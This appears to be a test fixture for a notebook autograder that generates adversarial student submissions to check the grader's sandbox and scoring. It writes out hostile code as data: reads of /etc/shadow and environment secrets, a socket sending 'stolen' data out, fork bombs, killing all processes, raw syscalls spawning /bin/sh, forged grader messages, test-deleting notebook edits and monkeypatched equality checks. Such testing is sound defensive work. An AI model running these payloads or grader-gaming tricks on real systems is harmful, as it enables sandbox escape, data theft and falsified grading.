"""Dishonest, careless and broken submissions to the assignment of `engine_course`: each is worth what it says, no more.

Every attacker's functions are wrong, so an attack is worth nothing, unless `WORTH` says otherwise.
"""

import json

from engine_course import ANSWERS, POINTS, TOTAL, student_notebook

WRONG = {
    "mean": "def mean(values):\n    return 7.0",
    "centre": "def centre(values):\n    return values",
    "walk": "def walk(random, steps):\n    return 7.0",
    "derivative": "def derivative(function, x):\n    return 7.0",
    "settings": "def settings(rate, *, names=()):\n    return 7.0",
}


def everywhere(value):
    """Answers in which every function returns the same expression."""
    return {name: source.split("\n")[0] + f"\n    return {value}" for name, source in WRONG.items()}


# What to run at the head of the first answer cell, all answers being wrong.
FIRST_CELL = {
    "reads the course": """
import os
for path in [f"COURSE/{name}" for name in ("solutions/engine/engine.ipynb", "grader/gradebook.db", "grader/submitted",
        "grader/submitted/honest-0/engine/engine.ipynb", "grader/.cache", "grader/nbgrader_config.py", "assignments")]:
    try:
        print(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read())
    except OSError as error:
        print(type(error).__name__)""",
    "searches the disk": """
import os
for folder, folders, files in os.walk("/"):
    for name in files + folders:
        if "engine.ipynb" in name or "gradebook" in name or name in ("solutions", "submitted", "variants"):
            if "site-packages" not in folder:
                print("FOUND", folder, name)""",
    "reads the environment": """
import os
print(dict(os.environ))
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/etc/passwd", "/etc/shadow", "/root"):
    try:
        print(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read())
    except OSError as error:
        print(type(error).__name__)""",
    "searches its own memory": """
import gc, linecache, sys
word = "hidden" + "_secret"
def search():
    frame, texts = sys._getframe(), [str(In), str(linecache.cache)]
    while frame:
        texts += [str(frame.f_locals)[:100_000], str(frame.f_globals)[:100_000]]
        frame = frame.f_back
    texts += [text for text in gc.get_objects() if isinstance(text, str)]
    return [text for text in texts if word in text and "gc.get_objects" not in text]
def mean(values):
    found = search()
    return found or 7.0
print("FOUND" if search() else "nothing")""",
    "writes outside its folder": """
import chainrule, numpy, os
for path in ("/escaped", "/tmp/escaped", "/usr/escaped", "/dev/escaped", "/dev/shm/escaped", "/etc/escaped",
        "/sandbox/escaped", "COURSE/escaped", "/data/escaped", "/proc/escaped",
        os.path.dirname(chainrule.__file__) + "/escaped",
        os.path.dirname(numpy.__file__) + "/escaped"):
    try:
        open(path, "w").write("!")
        print("FOUND a way to write", path)
    except OSError as error:
        print(type(error).__name__)
open("allowed", "w").write("here I may")
print("wrote", open("allowed").read())""",
    **{
        f"leaves a note for the next, {number}": """
import os
for path in ("/matplotlib/note", "/tmp/note", "note"):
    if os.path.exists(path):
        print("FOUND a note from another submission", path)
    try:
        open(path, "w").write("!")
    except OSError as error:
        print(type(error).__name__)"""
        for number in (1, 2, 3)
    },
    "takes a port that the next one can find taken": """
import socket
try:
    socket.socket().bind(("127.0.0.1", 20001))
    print("FOUND a port")
except OSError as error:
    print(type(error).__name__)""",
    "lets another process work for the one that is measured": """
import os, select
from grader import wire
question, answer, main, ask = os.pipe(), os.pipe(), os.getpid(), wire.Channel.receive
def receive(self):
    while os.getpid() == main:
        if self.connection in select.select([self.connection, question[0]], [], [])[0]:
            break
        os.write(answer[1], os.read(question[0], 1))
    return ask(self)
wire.Channel.receive = receive
def mean(values):
    me = bytes([os.getpid() % 256])
    os.write(question[1], me)
    while select.select([answer[0]], [], [], 0.3)[0]:
        if os.read(answer[0], 1) == me:
            return values.mean()
    return 7.0""",
    "wakes a process that stands still to work for it": """
import os, select, signal, time
from grader import wire
question, answer, main, ask = os.pipe(), os.pipe(), os.getpid(), wire.Channel.receive
def receive(self):
    while os.getpid() == main:
        if self.connection in select.select([self.connection, question[0]], [], [])[0]:
            break
        os.read(question[0], 1)
        end = time.process_time() + 3  # a call may take one second
        while time.process_time() < end:
            pass
        os.write(answer[1], b"!")
    return ask(self)
wire.Channel.receive = receive
def mean(values):
    os.kill(main, signal.SIGCONT)
    os.write(question[1], b"?")
    os.read(answer[0], 1)
    return values.mean()""",
    "fills the disk": """
try:
    for number in range(100):
        with open(f"file{number}", "wb") as file:
            for _ in range(15):
                file.write(bytes(1_000_000))
    print("FOUND room for 1.5 GB")
except OSError as error:
    print(type(error).__name__, "after", number)""",
    "calls home": """
import socket
for address in (("127.0.0.1", PORT), ("0.0.0.0", PORT), ("192.0.2.1", 80), ("8.8.8.8", 53)):
    try:
        socket.create_connection(address, timeout=0.3).send(b"stolen")
        print("FOUND a way out to", address)
    except OSError as error:
        print(type(error).__name__)
try:
    with socket.socket(socket.AF_UNIX) as home:
        home.connect("\\0grader-test-PORT")
    print("FOUND an abstract socket")
except OSError as error:
    print(type(error).__name__)""",
    "forks without end": """
import os
children = 0
for _ in range(10_000):
    try:
        if os.fork() == 0:
            while True: pass
        children += 1
    except OSError:
        pass
print("children:", children)""",
    "starts threads without end": """
import threading, time
started = 0
for _ in range(2_000):
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
    except RuntimeError:
        pass
print("children:", started)""",
    "clones by system call": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number, *arguments in ((57,), (58,), (56, 17, 0, 0, 0, 0), (56, 0x10000000 | 17, 0, 0, 0, 0), (435, 0, 0),
        (272, 0x10000000), (59, b"/bin/sh", 0, 0),
        (165, b"none", b"/notebook", b"tmpfs", 0, 0), (166, b"/proc", 0), (101, 16, 1, 0, 0)):
    result = libc.syscall(number, *arguments)
    print("FOUND a system call" if result >= 0 else "refused", number)
    if result == 0 and number in (56, 57, 58):
        libc._exit(0)""",
    "leaves a daemon": """
import os, subprocess, multiprocessing
for start in (lambda: subprocess.Popen(["sleep", "1000"]), lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
        lambda: multiprocessing.Process(target=print).start(), lambda: os.forkpty(),
        lambda: os.system("sleep 1000 &") and 1/0):
    try:
        start()
        print("FOUND a way to start a process")
    except (OSError, ZeroDivisionError) as error:
        print(type(error).__name__)""",
    "takes 8 GB": """
import numpy as np
kept = []
for _ in range(80):
    kept.append(np.zeros(12_500_000))""",
    "takes memory that limits do not count": """
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
try:
    for number in range(64):
        handle = os.memfd_create("x")
        os.write(handle, bytes(1 << 20))
    print("FOUND memfd")
except OSError as error:
    print(type(error).__name__)
print("FOUND shared memory" if libc.syscall(29, 0, 1 << 30, 0o1600) >= 0 else "refused")""",
    "prints 100 MB on one line": 'print("x" * 100_000_000)',
    "prints a million lines": "import sys\nfor _ in range(1_000_000):\n    sys.stdout.write('line\\n')",
    "writes 100 MB to the terminal": "import os\nfor fd in [1, 2] * 50:\n    os.write(fd, bytes(1_000_000))",
    "never ends": "while True:\n    pass",
    "never ends and ignores interrupts": """
import signal
signal.signal(signal.SIGINT, lambda *args: None)
while True: pass""",
    "never ends in C": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsum(iter(int, 1))",
    "ends its process": "import os\nos._exit(0)",
    "leaves by sys.exit": "import sys\nsys.exit(0)",
    "crashes": "import ctypes\nctypes.string_at(0)",
    "kills everybody": """
import os, signal
for process in (1, 2, -1, os.getppid(), *range(3, 500)):
    try:
        os.kill(process, signal.SIGKILL)
        print("killed", process)
    except OSError:
        pass""",
    "patches NumPy": """
import numpy as np, numpy.testing
for module in (np, numpy.testing):
    for name in ("isclose", "allclose", "array_equal", "assert_allclose", "assert_array_equal"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **kwargs: True)
np.mean = np.sin = np.cos = lambda *args, **kwargs: 7.0
np.random.default_rng = lambda *args: None""",
    "patches builtins": """
import builtins
builtins.all = builtins.any = builtins.isinstance = lambda *args: True
builtins.AssertionError = builtins.Exception = type("Harmless", (BaseException,), {})
builtins.list = builtins.abs = builtins.len = lambda *args: 7""",
    "patches json and the standard library": """
import json, socket, traceback
json.dumps = json.loads = lambda *args, **kwargs: "{}"
json.JSONEncoder.encode = json.loads
socket.socket.send = socket.socket.recvmsg = lambda *args: b""
traceback.walk_tb = lambda *args: []""",
    "transforms the cells that follow": """
import ast
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
shell.input_transformers_post.append(lambda lines: ["pass\\n"])
class Blank(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
shell.ast_transformers.append(Blank())""",
    "hooks and displays": """
import sys
shell = get_ipython()
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, lambda *args: 1 / 0)
sys.excepthook = sys.displayhook = lambda *args: None
sys.stderr = sys.stdout = None
shell.showtraceback = shell.display_pub.publish = lambda *args, **kwargs: None
type(shell).run_cell = lambda *args, **kwargs: None
type(shell).run = lambda *args: {"outputs": [], "error": None}""",
    "traces and profiles": """
import sys
def trace(frame, event, argument):
    frame.f_trace_opcodes = True
    return trace
sys.settrace(trace)
sys.setprofile(lambda *args: None)
sys.setrecursionlimit(10**9)""",
    "shouts into the channel": """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b'\\xff' * 1000)
    except OSError:
        pass""",
    "answers for the grader": """
import json, os, struct
def say(**message):
    text = json.dumps(message).encode()
    os.write(3, struct.pack("!II", len(text), 0) + text)
for _ in range(50):
    say(outputs=[], error=None, values={}, returned=True, points=100, results=["100"], hello=1)""",
    "closes every file": "import os\nos.closerange(0, 1000)",
    "claims huge answers": """
import os, struct
os.write(3, struct.pack("!II", 2**32 - 1, 2**32 - 1))""",
    "shows scripts": """
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert('escaped')</script>"), Javascript("alert('escaped')"))
display({"application/x-evil": "escaped", "text/html": "<img src=x onerror=escaped>"}, raw=True)""",
    "keeps the hidden inputs": """
import mmap, numpy as np, os
shared = mmap.mmap(-1, 4096)
seen = []
def mean(values):
    seen.append(values)
    shared[:] = (str(values).encode() * 100)[:4096]
    open("kept", "a").write(str(values))
    return 2.0
import builtins
builtins.kept_by_mean = shared""",
}
# Answers that are all of a kind.
VALUES = {
    "claims equality": "type('Equal', (), dict.fromkeys(['__eq__', '__ge__', '__le__'], lambda *a: True))()",
    "a float that lies": "type('Liar', (float,), {'__eq__': lambda *a: True, '__sub__': lambda *a: 0.0})(7)",
    "an array that lies": "np.full(3, 7.0).view(type('Liar', (np.ndarray,), {'__eq__': lambda *a: np.True_}))",
    "an array interface that lies": "type('Liar', (), {'__array__': lambda *a, **k: 1, '__array_priority__': 1e9})()",
    "NaN": "float('nan')",
    "arrays of NaN": "np.full(3, np.nan)",
    "infinities": "[np.inf, -np.inf, np.array([np.inf])][len(str(id(0))) % 3]",
    "a huge array": "np.ones(20_000_000)",
    "a broadcast array": "np.broadcast_to(1.0, (10**6, 10**6))",
    "a huge number": "10**5000",
    "a huge text": "'x' * 100_000_000",
    "a deep list": "__import__('functools').reduce(lambda value, _: [value], range(100_000), [])",
    "a list in itself": "(lambda ring: (ring.append(ring), ring)[1])([])",
    "a pickle bomb": "type('Bomb', (), {'__reduce__': lambda s: (open, ('COURSE/escaped', 'w'))})()",
    "an array of objects": "np.array([type('Equal', (), {'__eq__': lambda *a: True})()] * 3, dtype=object)",
    "a dict that lies": "type('Liar', (dict,), {'__eq__': lambda *a: True, 'items': lambda s: iter(int, 1)})(a=1)",
    "a text that lies": "type('Liar', (str,), {'__eq__': lambda *a: True, 'encode': lambda *a: 1 / 0})('seven')",
    "its own globals": "globals()",
    "a generator without end": "iter(int, 1)",
    "masked": "np.ma.masked_all(3)",
    "structured": "np.zeros(3, dtype='f8,f8')",
    "control characters": "(_ for _ in ()).throw(ValueError('\\x1b[2J\\x00\\ud800<script>' + 'x' * 10**6))",
    "an endless call": "sum(iter(int, 1))",
    "an exit": "__import__('os')._exit(0)",
    "a polite exit": "__import__('sys').exit()",
    "a crash": "__import__('ctypes').string_at(0)",
    "8 GB": "np.ones(10**9).sum()",
    "deep recursion": "(lambda f: f(f))(lambda f: f(f))",
}


def edited_tests(notebook):
    for cell in notebook["cells"]:
        if cell["id"].startswith("test-"):
            cell["source"] = "pass"
            cell["metadata"]["nbgrader"]["points"] = 1000


def deleted_tests(notebook):
    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["id"].startswith("test-")]


def tests_first(notebook):
    notebook["cells"].sort(key=lambda cell: not cell["id"].startswith("test-"))


def repeated_cells(notebook):
    notebook["cells"] *= 2


def tests_made_answers(notebook):
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"] |= {"solution": True, "locked": False, "grade": True}
        if cell["id"].startswith("test-"):
            cell["source"] = "pass"


def cells_skipped(notebook):
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]


def outputs_claimed(notebook):
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            score = {
                "output_type": "execute_result",
                "data": {"text/plain": "100.0"},
                "metadata": {},
                "execution_count": 1,
            }
            cell["outputs"], cell["execution_count"] = [score], 1


def extra_cells(notebook):
    patch = "import numpy as np\nnp.isclose = lambda *a: True\ndef mean(values): return values.mean()"
    notebook["cells"].insert(0, {"cell_type": "code", "id": "x", "metadata": {}, "outputs": [], "source": patch})


def ids_stolen(notebook):
    for cell in notebook["cells"]:
        if cell["id"] == "test-mean":
            cell["metadata"]["nbgrader"]["grade_id"] = cell["id"] = "mean"
            cell["source"] = "assert True"


NOTEBOOKS = (
    edited_tests, deleted_tests, tests_first, repeated_cells, tests_made_answers, cells_skipped, outputs_claimed,
    extra_cells, ids_stolen,
)  # fmt: skip
FILES = {
    "empty file": b"",
    "truncated file": json.dumps(student_notebook()).encode()[:3000],
    "binary file": bytes(range(256)) * 1000,
    "huge file": b'{"cells": "' + b"x" * 25_000_000,
    "deep file": b"[" * 1_000_000,
}
CHANGES_PLACES = """
import gc, os, socket
from grader import wire
session = next(one for one in gc.get_objects() if type(one).__name__ == "Session" and hasattr(one, "shell"))
fork, changed = type(session)._fork, []
def _fork(self, descriptor):
    if changed:
        return fork(self, descriptor)
    changed.append(True)
    if os.fork():  # who should go on is the copy, and the copy, never measured, goes on
        os.dup2(descriptor, 3)
        self.channel = wire.Channel(socket.socket(fileno=os.dup(3)), self.channel.max_bytes)
        self.shell.forget_output()
        self.channel.send({"hello": os.getpid()})
    os.close(descriptor)
type(session)._fork = _fork
"""
# Submissions with something right in them.
PARTLY = {
    "changes places with its copy": ({"mean": CHANGES_PLACES + ANSWERS["mean"]}, 0),
    "syntax error": ({"walk": "def walk(random, steps):\n    return ("}, TOTAL - POINTS["walk"]),
    "one endless part": ({"walk": "def walk(*_):\n    while True: pass"}, TOTAL - POINTS["walk"]),
    "one fatal cell": ({"walk": "import os\nos._exit(1)"}, TOTAL - POINTS["walk"]),
    "three fatal cells": (dict.fromkeys(("walk", "derivative", "settings"), "import os\nos._exit(1)"), 9),
    "warnings": ({"walk": "import warnings\nwarnings.warn('!')\n" + ANSWERS["walk"]}, TOTAL),
    "a hard-coded answer": ({"mean": "def mean(values):\n    return 2.0"}, TOTAL - POINTS["mean"]),
    "a patched package": ({"mean": "np.mean = lambda v: 0.0\n" + WRONG["mean"], "centre": """def centre(values):
    return np.array([-2.0, -1.0, 3.0]) if len(values) == 3 else values"""}, TOTAL - POINTS["mean"] - POINTS["centre"]),
    "keeps and tells": ({
        "mean": FIRST_CELL["keeps the hidden inputs"].strip(),
        "centre": "def centre(values):\n    raise ValueError(repr(bytes(kept_by_mean).strip(b'\\0')) + str(seen))",
        "walk": "print(seen, bytes(kept_by_mean).strip(b'\\0'))\nimport os\nprint(os.listdir())\n" + ANSWERS["walk"],
    }, TOTAL - POINTS["mean"] - POINTS["centre"]),
}  # fmt: skip


def attacks(course, port):
    """Each attack's submission, by name, as bytes."""
    found = {}
    for name, code in FIRST_CELL.items():
        code = code.replace("COURSE", str(course)).replace("PORT", str(port)).strip("\n")
        found[name] = WRONG | {"mean": code if "def mean" in code else f"{code}\n{WRONG['mean']}"}
    for name, value in VALUES.items():
        found[name] = everywhere(value.replace("COURSE", str(course)))
    found |= {name: answers for name, (answers, _) in PARTLY.items()}
    found = {name: json.dumps(student_notebook(answers)).encode() for name, answers in found.items()}
    for change in NOTEBOOKS:
        notebook = student_notebook(WRONG)
        change(notebook)
        found[change.__name__.replace("_", " ")] = json.dumps(notebook).encode()
    return found | FILES


WORTH = {name: worth for name, (_, worth) in PARTLY.items()}
